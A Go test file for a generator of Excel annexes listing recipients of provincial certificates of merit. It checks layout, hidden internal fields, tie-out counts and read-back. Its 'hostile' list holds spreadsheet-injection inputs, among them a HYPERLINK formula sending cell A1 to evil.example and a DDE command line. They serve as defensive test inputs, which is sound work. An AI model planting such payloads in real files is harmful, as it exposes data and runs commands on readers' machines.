package annex

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"os"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"bangkhen/internal/award"
)

func open(t testing.TB, data []byte) *excelize.File {
	t.Helper()
	file, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { file.Close() })
	return file
}

// cellsOf reads every cell of a sheet.
func cellsOf(t testing.TB, file *excelize.File, sheet string) [][]string {
	t.Helper()
	rows, err := file.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// firstCells lists the first cell of every row that has one.
func firstCells(rows [][]string) []string {
	var out []string
	for _, row := range rows {
		if len(row) > 0 && row[0] != "" {
			out = append(out, row[0])
		}
	}
	return out
}

func TestWorkbookHeading(t *testing.T) {
	rows := cellsOf(t, open(t, write(t, example(t))), sheetList)
	for i, want := range []string{
		"NỘI BỘ – KHÔNG CÔNG BỐ",
		"Bảng theo dõi",
		"DANH SÁCH TẬP THỂ, HỘ GIA ĐÌNH, CÁ NHÂN ĐƯỢC TẶNG BẰNG KHEN",
		"Là điển hình tiên tiến trong phong trào thi đua yêu nước của tỉnh, giai đoạn 2021 - 2023",
		"(Kèm theo Quyết định số 946/QĐ-UBND ngày 31 tháng 5 năm 2023 của Chủ tịch Ủy ban nhân dân tỉnh Bắc Kạn)",
	} {
		if got := strings.ReplaceAll(rows[i][0], "\n", " "); got != want {
			t.Errorf("row %d: %q, want %q", i+1, got, want)
		}
	}
	if last := rows[len(rows)-1][0]; last != "Tổng cộng: 106 (45 tập thể, 06 hộ gia đình và 55 cá nhân)" {
		t.Errorf("last row: %q", last)
	}
	text := strings.Join(firstCells(rows), "\n")
	for _, section := range []string{"\nI. TẬP THỂ (45)\n", "\nII. HỘ GIA ĐÌNH (06)\n", "\nIII. CÁ NHÂN (55)\n"} {
		if !strings.Contains(text, section) {
			t.Errorf("no section %q", section)
		}
	}
	if strings.Contains(text, wordDraft) {
		t.Error("an issued list says that it is a draft")
	}
}

// What is published is the list and nothing else: no code, no number of the golden
// book, no address, in no part of the file.
func TestPublishedAnnex(t *testing.T) {
	batch := example(t)
	for i := range batch.Certificates {
		batch.Certificates[i].GoldenNumber = fmt.Sprintf("SV%d/2023", i)
	}
	var out bytes.Buffer
	if err := Workbook(&out, batch, Published, "", func() error { return nil }); err != nil {
		t.Fatal(err)
	}
	file := open(t, out.Bytes())
	if sheets := file.GetSheetList(); len(sheets) != 1 || sheets[0] != sheetList {
		t.Errorf("sheets %v", sheets)
	}
	rows := cellsOf(t, file, sheetList)
	if rows[0][0] != wordAnnex || strings.ReplaceAll(rows[1][0], "\n", " ") != "DANH SÁCH TẬP THỂ, HỘ GIA ĐÌNH, CÁ NHÂN ĐƯỢC TẶNG BẰNG KHEN" {
		t.Errorf("opens with %q, %q", rows[0][0], rows[1][0])
	}
	for name, part := range partsOf(t, out.Bytes()) {
		for _, absent := range []string{"7K3M", "SV1/", "bangkhen.backan", headGolden, headCode, wordInternal, wordDraft, sheetTie} {
			if strings.Contains(part, absent) {
				t.Errorf("%s holds %q", name, absent)
			}
		}
	}
	read, err := readBack(out.Bytes())
	if err != nil || len(read) != len(batch.Certificates) {
		t.Fatalf("%d rows, %v", len(read), err)
	}
	for i, row := range read {
		if r := batch.Certificates[i].Recipient; row.Name != r.Name || row.Position != r.Position || row.Code+row.GoldenNumber+row.Link != "" {
			t.Errorf("row %d: %+v", i+1, row)
		}
	}
	if layout, err := file.GetPageLayout(sheetList); err != nil || *layout.Orientation != "portrait" {
		t.Errorf("%v, %v", layout.Orientation, err)
	}
	var draft bytes.Buffer
	if err := Workbook(&draft, drafted(batch), Published, "", func() error { return nil }); err != nil {
		t.Fatal(err)
	}
	if rows := cellsOf(t, open(t, draft.Bytes()), sheetList); rows[0][0] != wordDraft {
		t.Errorf("a draft opens with %q", rows[0][0])
	}
}

func TestWorkbookNamesTheHonour(t *testing.T) {
	data, err := workbook(example(t), "Giấy khen")
	if err != nil {
		t.Fatal(err)
	}
	file := open(t, data)
	if got := cellsOf(t, file, sheetList)[2][0]; !strings.HasSuffix(got, "ĐƯỢC TẶNG GIẤY KHEN") {
		t.Error(got)
	}
	if tie := fmt.Sprint(cellsOf(t, file, sheetTie)); !strings.Contains(tie, "Giấy khen phát hành") || strings.Contains(tie, "Bằng khen phát") {
		t.Error(tie)
	}
}

// Every cell of every recipient is where it belongs, as the right type.
func TestWorkbookReadsBack(t *testing.T) {
	batch := example(t)
	rows, err := readBack(write(t, batch))
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(batch.Certificates) {
		t.Fatalf("%d rows, want %d", len(rows), len(batch.Certificates))
	}
	number := map[award.Kind]int{}
	for i, c := range batch.Certificates {
		number[c.Recipient.Kind]++
		want := readRow{Row{
			Index: i + 1, Kind: c.Recipient.Kind, Number: number[c.Recipient.Kind],
			Honorific: c.Recipient.Honorific, Name: c.Recipient.Name, Position: c.Recipient.Position, Place: place(c),
			GoldenNumber: c.GoldenNumber, Code: c.Code.Grouped(),
		}, c.URL}
		if number[c.Recipient.Kind] == 1 {
			want.Headings = map[award.Kind]string{award.Collective: "I. TẬP THỂ (45)", award.Household: "II. HỘ GIA ĐÌNH (06)", award.Individual: "III. CÁ NHÂN (55)"}[c.Recipient.Kind]
		}
		if rows[i] != want {
			t.Errorf("row %d:\ngot  %+v\nwant %+v", i+1, rows[i], want)
		}
	}
}

func TestWorkbookNumbersAreNumbers(t *testing.T) {
	batch := example(t)
	for i, golden := range []string{"1", "007", "BK-3", "1234567890123456", "-5", "+6", "7.0", "0"} {
		batch.Certificates[i].GoldenNumber = golden
	}
	file := open(t, write(t, batch))
	rows := cellsOf(t, file, sheetList)
	at := 0
	for i, row := range rows {
		if len(row) > 1 && row[0] == "1" && at == 0 {
			at = i + 1
		}
	}
	golden := map[string]excelize.CellType{
		"1": excelize.CellTypeUnset, "007": excelize.CellTypeInlineString, "BK-3": excelize.CellTypeInlineString,
		"1234567890123456": excelize.CellTypeInlineString, "-5": excelize.CellTypeInlineString, "+6": excelize.CellTypeInlineString,
		"7.0": excelize.CellTypeInlineString, "0": excelize.CellTypeUnset,
	}
	for i, c := range batch.Certificates[:8] {
		if kind, _ := file.GetCellType(sheetList, fmt.Sprint("A", at+i)); kind != excelize.CellTypeUnset {
			t.Errorf("A%d is not a number", at+i)
		}
		cell := fmt.Sprint("F", at+i)
		kind, _ := file.GetCellType(sheetList, cell)
		value, _ := file.GetCellValue(sheetList, cell)
		if kind != golden[c.GoldenNumber] || value != c.GoldenNumber {
			t.Errorf("golden number %q: %q of type %v", c.GoldenNumber, value, kind)
		}
	}
}

func TestWorkbookIsDeterministic(t *testing.T) {
	for name, batch := range map[string]award.Batch{"issued": example(t), "draft": drafted(example(t))} {
		first := write(t, batch)
		for range 3 {
			if !bytes.Equal(first, write(t, batch)) {
				t.Errorf("%s: two runs differ", name)
			}
		}
	}
	properties, err := open(t, write(t, example(t))).GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	if properties.Created != "2023-05-31T00:00:00Z" || properties.Modified != properties.Created || properties.Language != "vi-VN" ||
		properties.Title != "Bảng theo dõi của Quyết định số 946/QĐ-UBND ngày 31 tháng 5 năm 2023 (nội bộ, không công bố)" || properties.Creator != "ỦY BAN NHÂN DÂN TỈNH BẮC KẠN" {
		t.Errorf("%+v", properties)
	}
}

// hostile is text that a spreadsheet would like to run, open or misread.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"Nguyễn Văn A")`, "+84912345678", "-x", "@SUM(A1:A9)", "=cmd|'/C calc'!A0",
	"\t=1+1", "http://evil.example/", "mailto:a@evil.example", "_x0041_nh", "_x000D_", "1e5", "TRUE", "31/5/2023", "#REF!", "'=1",
	"<v>1</v>", "]]>&amp;", "Y-Ƀlŭl Niê Blô", "Ê̆ban", "😀",
}

func TestWorkbookKeepsHostileTextAsText(t *testing.T) {
	var list award.List
	for i, text := range hostile {
		list.Recipients = append(list.Recipients, award.Recipient{
			Kind: award.Individual, Honorific: text, Name: fmt.Sprint(text, " ", i), Position: text, Unit: text, Group: text,
		})
	}
	d := decision946()
	d.Number, d.Signer.Name, d.Subject, d.Authority = "=1+1", "=2+2", "@x", "-x"
	batch := issued(d, list)
	for i := range batch.Certificates {
		batch.Certificates[i].GoldenNumber = hostile[i]
		batch.Certificates[i].Citation = hostile[i]
		batch.Certificates[i].URL = "javascript:alert(1)"
	}
	data := write(t, batch)
	file := open(t, data)
	for _, sheet := range file.GetSheetList() {
		for y, row := range cellsOf(t, file, sheet) {
			for x, value := range row {
				cell, _ := excelize.CoordinatesToCellName(x+1, y+1)
				if formula, _ := file.GetCellFormula(sheet, cell); formula != "" {
					t.Errorf("%s!%s has the formula %q", sheet, cell, formula)
				}
				if is, target, _ := file.GetCellHyperLink(sheet, cell); is {
					t.Errorf("%s!%s leads to %q", sheet, cell, target)
				}
				if !looksLikeFormula(value) {
					continue
				}
				id, _ := file.GetCellStyle(sheet, cell)
				if prefix := file.Styles.CellXfs.Xf[id].QuotePrefix; prefix == nil || !*prefix {
					t.Errorf("%s!%s %q would become a formula when edited", sheet, cell, value)
				}
			}
		}
	}
	rows, err := readBack(data)
	if err != nil || len(rows) != len(hostile) {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, row := range rows {
		r := batch.Certificates[i].Recipient
		if row.Name != r.Name || row.Honorific != r.Honorific || row.Position != r.Position || row.Place != r.Unit || row.Citation != hostile[i] || row.GoldenNumber != hostile[i] || row.Link != "" {
			t.Errorf("row %d: %+v", i+1, row)
		}
	}
	for _, part := range partsOf(t, data) {
		if strings.Contains(part, "<f>") || strings.Contains(part, "<f ") || strings.Contains(part, "externalLink") || strings.Contains(part, "TargetMode=\"External\"") {
			t.Errorf("a part holds a formula or an external target: %.200s", part)
		}
	}
}

func partsOf(t *testing.T, data []byte) map[string]string {
	t.Helper()
	archive, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	parts := make(map[string]string)
	for _, f := range archive.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		content, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		parts[f.Name] = string(content)
	}
	return parts
}

// Whatever the list says, the workbook says the same.
func TestWorkbookProperty(t *testing.T) {
	word := rapid.StringMatching(`[=+@A-ZĐỦẤa-zđạảấềộưỳ0-9.,"'&<-]{1,14}( [a-zđạưỳ-]{1,9}){0,15}`)
	maybe := func(g *rapid.Generator[string]) *rapid.Generator[string] {
		return rapid.OneOf(rapid.Just(""), g)
	}
	recipient := rapid.Custom(func(t *rapid.T) award.Recipient {
		return award.Recipient{
			Kind: rapid.SampledFrom(award.Kinds()).Draw(t, "kind"), Honorific: rapid.SampledFrom([]string{"", "Ông", "Bà", "Thượng tá"}).Draw(t, "honorific"),
			Name: word.Draw(t, "name"), Position: maybe(word).Draw(t, "position"), Unit: maybe(word).Draw(t, "unit"), Address: maybe(word).Draw(t, "address"),
			Citation: maybe(word).Draw(t, "citation"), Group: rapid.SampledFrom([]string{"", "A. Huyện Ba Bể", "2023"}).Draw(t, "group"),
		}
	})
	rapid.Check(t, func(rt *rapid.T) {
		batch := issued(decision946(), award.List{Recipients: rapid.SliceOfN(recipient, 1, 12).Draw(rt, "recipients")})
		if rapid.Bool().Draw(rt, "draft") {
			batch = drafted(batch)
		}
		data, err := workbook(batch, "")
		if err != nil {
			rt.Fatal(err)
		}
		rows, err := readBack(data)
		if err != nil || len(rows) != len(batch.Certificates) {
			rt.Fatalf("%d rows of %d, %v", len(rows), len(batch.Certificates), err)
		}
		for i, c := range batch.Certificates {
			got := rows[i]
			if got.Kind != c.Recipient.Kind || got.Name != c.Recipient.Name || got.Honorific != c.Recipient.Honorific || got.Position != c.Recipient.Position ||
				got.Place != place(c) || got.GoldenNumber != c.GoldenNumber || got.Code != c.Code.Grouped() || got.Link != c.URL {
				rt.Fatalf("row %d: %+v, want %+v", i+1, got, c)
			}
			if !sharedCitation(batch) && got.Citation != c.Citation {
				rt.Fatalf("row %d: citation %q, want %q", i+1, got.Citation, c.Citation)
			}
		}
	})
}

func TestDraft(t *testing.T) {
	batch := drafted(example(t))
	batch.Decision.Number, batch.Decision.Date = "", award.Date{}
	file := open(t, write(t, batch))
	rows := cellsOf(t, file, sheetList)
	if rows[0][0] != wordInternal || rows[1][0] != wordDraft || rows[2][0] != "Bảng theo dõi" {
		t.Errorf("opens with %q, %q, %q", rows[0][0], rows[1][0], rows[2][0])
	}
	all := fmt.Sprint(rows)
	for _, absent := range []string{headGolden, headCode, "946"} {
		if strings.Contains(all, absent) {
			t.Errorf("a draft shows %q", absent)
		}
	}
	if !strings.Contains(strings.ReplaceAll(all, "\n", " "), batch.Decision.Label()) {
		t.Errorf("no room for number and date: %q", rows[5][0])
	}
	marks, err := file.GetHeaderFooter(sheetList)
	if err != nil || !strings.Contains(marks.OddHeader, wordInternal) {
		t.Errorf("later pages do not say %s: %+v, %v", wordInternal, marks, err)
	}
	properties, _ := file.GetDocProps()
	if properties.Created != "2000-01-01T00:00:00Z" {
		t.Errorf("created %s", properties.Created)
	}
	if tie := fmt.Sprint(cellsOf(t, file, sheetTie)); !strings.Contains(tie, tieNotIssued) || !strings.Contains(tie, tieBlank) || !strings.Contains(tie, tieSame) {
		t.Error(tie)
	}
}

func TestWorkbookRefuses(t *testing.T) {
	mixed := example(t)
	mixed.Certificates[3].Code = ""
	long := example(t)
	long.Certificates[3].Recipient.Name = strings.Repeat("Ủ", 33_000)
	for name, batch := range map[string]award.Batch{"mixed": mixed, "long": long, "empty": {Decision: decision946()}} {
		if data, err := workbook(batch, ""); err == nil || len(data) > 0 {
			t.Errorf("%s: accepted", name)
		}
	}
}

func TestGroupsAndCitations(t *testing.T) {
	recipients := []award.Recipient{
		{Kind: award.Collective, Name: "Trường Mầm non Minh Họa", Group: "A. Huyện Ba Bể"},
		{Kind: award.Individual, Honorific: "Bà", Name: "Nông Thị Mẫu", Group: "A. Huyện Ba Bể", Citation: "Có thành tích trong dạy và học"},
		{Kind: award.Individual, Honorific: "Ông", Name: "Giàng A Thử", Group: "B. Huyện Chợ Mới"},
	}
	batch := issued(decision946(), award.List{Recipients: recipients})
	data := write(t, batch)
	got := strings.Join(firstCells(cellsOf(t, open(t, data), sheetList))[4:], " | ")
	want := "____________ | TT | A. Huyện Ba Bể (02) | I. TẬP THỂ (01) | 1 | II. CÁ NHÂN (01) | 1 | B. Huyện Chợ Mới (01) | I. CÁ NHÂN (01) | 1 | Tổng cộng: 3 (01 tập thể và 02 cá nhân)"
	if got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	rows, err := readBack(data)
	if err != nil {
		t.Fatal(err)
	}
	for i, citation := range []string{batch.Decision.Citation, "Có thành tích trong dạy và học", batch.Decision.Citation} {
		if rows[i].Citation != citation || rows[i].Kind != recipients[i].Kind {
			t.Errorf("row %d: %+v", i+1, rows[i])
		}
	}
}

func TestColumnsFollowTheList(t *testing.T) {
	persons := issued(decision946(), award.List{Recipients: []award.Recipient{{Kind: award.Individual, Honorific: "Ông", Name: "Lý A Mẫu", Address: "xã Thử"}}})
	collectives := drafted(issued(decision946(), award.List{Recipients: []award.Recipient{{Kind: award.Collective, Name: "Tổ Mẫu"}}}))
	unnumbered := issued(decision946(), award.List{Recipients: []award.Recipient{{Kind: award.Household, Name: "Hộ ông Mẫu"}, {Kind: award.Individual, Name: "Bàn Thử"}}})
	for i := range unnumbered.Certificates {
		unnumbered.Certificates[i].GoldenNumber = ""
	}
	for _, c := range []struct {
		batch award.Batch
		want  string
	}{
		{persons, "TT, Danh xưng, Họ và tên, Đơn vị công tác, địa chỉ, Số sổ vàng, Mã tra cứu"},
		{collectives, "TT, Tên tập thể"},
		{unnumbered, "TT, Hộ gia đình, cá nhân, Mã tra cứu"},
	} {
		for _, row := range cellsOf(t, open(t, write(t, c.batch)), sheetList) {
			if len(row) > 1 && row[0] == headNumber && strings.Join(row, ", ") != c.want {
				t.Errorf("got %q, want %q", strings.Join(row, ", "), c.want)
			}
		}
	}
}

func TestPrinting(t *testing.T) {
	for name, c := range map[string]struct {
		batch       award.Batch
		orientation string
		area        string
		titles      string
		footer      string
	}{
		"issued": {example(t), "portrait", "'Phụ lục'!$A$1:$G$118", "'Phụ lục'!$8:$8", "Quyết định số 946/QĐ-UBND"},
		"draft":  {drafted(example(t)), "portrait", "'Phụ lục'!$A$1:$E$119", "'Phụ lục'!$9:$9", "Quyết định số 946/QĐ-UBND"},
	} {
		t.Run(name, func(t *testing.T) {
			file := open(t, write(t, c.batch))
			layout, err := file.GetPageLayout(sheetList)
			if err != nil {
				t.Fatal(err)
			}
			if *layout.Size != 9 || *layout.Orientation != c.orientation || *layout.FitToWidth != 1 || *layout.FitToHeight != 0 {
				t.Errorf("layout: size %d, %s, fit %d by %d", *layout.Size, *layout.Orientation, *layout.FitToWidth, *layout.FitToHeight)
			}
			if fit, _ := file.GetSheetProps(sheetList); fit.FitToPage == nil || !*fit.FitToPage {
				t.Error("does not fit to the page")
			}
			margins, _ := file.GetPageMargins(sheetList)
			if left := *margins.Left * 25.4; left < 19.9 {
				t.Errorf("left margin %.1f mm", left)
			}
			names := map[string]string{}
			for _, n := range file.GetDefinedName() {
				if n.Scope == sheetList {
					names[n.Name] = n.RefersTo
				}
			}
			if names["_xlnm.Print_Area"] != c.area || names["_xlnm.Print_Titles"] != c.titles {
				t.Errorf("names %v", names)
			}
			marks, _ := file.GetHeaderFooter(sheetList)
			if !strings.Contains(marks.OddFooter, "Trang &P/&N") || !strings.Contains(marks.OddFooter, c.footer) {
				t.Errorf("footer %q", marks.OddFooter)
			}
			panes, _ := file.GetPanes(sheetList)
			if !panes.Freeze || fmt.Sprintf("'Phụ lục'!$%d:$%d", panes.YSplit, panes.YSplit) != c.titles {
				t.Errorf("panes %+v", panes)
			}
			if file.GetActiveSheetIndex() != 0 {
				t.Error("does not open on the list")
			}
		})
	}
}

func TestFooterTextIsPlain(t *testing.T) {
	if got := footerText("A&B &P"); got != "A&&B &&P" {
		t.Error(got)
	}
	if got := footerText(strings.Repeat("Ủ", 300)); len([]rune(got)) > 100 {
		t.Errorf("%d characters", len([]rune(got)))
	}
}

func TestTieOut(t *testing.T) {
	good := example(t)
	wrong := example(t)
	wrong.Decision.Declared.Collective = 44
	repeated := example(t)
	repeated.Certificates[5].Code = repeated.Certificates[4].Code
	repeated.Certificates[5].GoldenNumber = "5"
	undeclared := drafted(example(t))
	undeclared.Decision.Declared = award.Counts{}
	for name, c := range map[string]struct {
		batch award.Batch
		want  []string // parts of the rows, cells joined by |
	}{
		"good":       {good, []string{"Số, ký hiệu|946/QĐ-UBND", "Ngày ban hành|31/5/2023", "Người ký|Nguyễn Đăng Bình", "Tập thể|45|45|45|Khớp", "Hộ gia đình|6|6|6|Khớp", "Cá nhân|55|55|55|Khớp", "Tổng cộng|106|106|106|Khớp", "106 số, không trùng nhau, từ 1 đến 106", "106 mã, không trùng nhau"}},
		"wrong":      {wrong, []string{"Tập thể|44|45|45|LỆCH", "Hộ gia đình|6|6|6|Khớp", "Tổng cộng|105|106|106|LỆCH"}},
		"repeated":   {repeated, []string{"106 mã, TRÙNG NHAU: chỉ có 105 khác nhau", "106 số, TRÙNG NHAU"}},
		"undeclared": {undeclared, []string{"Tập thể|không nêu|45|chưa phát hành|Chưa đối chiếu"}},
	} {
		t.Run(name, func(t *testing.T) {
			var text strings.Builder
			for _, row := range cellsOf(t, open(t, write(t, c.batch)), sheetTie) {
				text.WriteString(strings.Join(row, "|") + "\n")
			}
			for _, want := range c.want {
				if !strings.Contains(text.String(), want) {
					t.Errorf("no %q in\n%s", want, text.String())
				}
			}
		})
	}
}

// A text never needs fewer lines in a narrower cell, and every word is counted.
func TestLineCount(t *testing.T) {
	for _, c := range []struct {
		text  string
		width float64
		want  int
	}{
		{"", 20, 1}, {"Ông", 20, 1}, {"Viễn thông Bắc Kạn", 60, 1},
		{"Đảng bộ, chính quyền và Nhân dân xã Nông Hạ", 55, 2},
		{"một\nhai", 60, 2}, {strings.Repeat("W", 40), 40, 5},
	} {
		if got := lineCount(c.text, c.width, 12, false); got != c.want {
			t.Errorf("%q in %.0f mm: %d lines, want %d", c.text, c.width, got, c.want)
		}
	}
	word := rapid.StringMatching(`[A-Za-zđạảấềộưỳ]{1,30}( [a-zđạưỳ]{1,9}){0,20}`)
	rapid.Check(t, func(t *rapid.T) {
		text := word.Draw(t, "text")
		width := rapid.Float64Range(15, 200).Draw(t, "width")
		if wide, narrow := lineCount(text, width+10, 12, false), lineCount(text, width, 12, false); wide > narrow {
			t.Fatalf("%d lines in the wider cell, %d in the narrower", wide, narrow)
		}
		if flat := strings.ReplaceAll(balanced(text, width, 12, true), "\n", " "); flat != text {
			t.Fatalf("balancing changed %q to %q", text, flat)
		}
	})
}

func FuzzReadBack(f *testing.F) {
	f.Add([]byte("PK\x03\x04"))
	f.Add([]byte{})
	batch := issued(decision946(), award.List{Recipients: []award.Recipient{{Kind: award.Collective, Name: "Tổ Mẫu"}}})
	if data, err := workbook(batch, ""); err == nil {
		f.Add(data)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		rows, _ := readBack(data)
		for i, row := range rows {
			if row.Index != i+1 {
				t.Fatalf("row %d says that it is row %d", i+1, row.Index)
			}
		}
	})
}

func TestReadBackRefuses(t *testing.T) {
	csv, err := os.ReadFile("batch_test.go")
	if err != nil {
		t.Fatal(err)
	}
	empty := excelize.NewFile()
	defer empty.Close()
	var other bytes.Buffer
	if err := empty.Write(&other); err != nil {
		t.Fatal(err)
	}
	for name, data := range map[string][]byte{"nothing": nil, "text": csv, "another workbook": other.Bytes()} {
		if _, err := readBack(data); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}
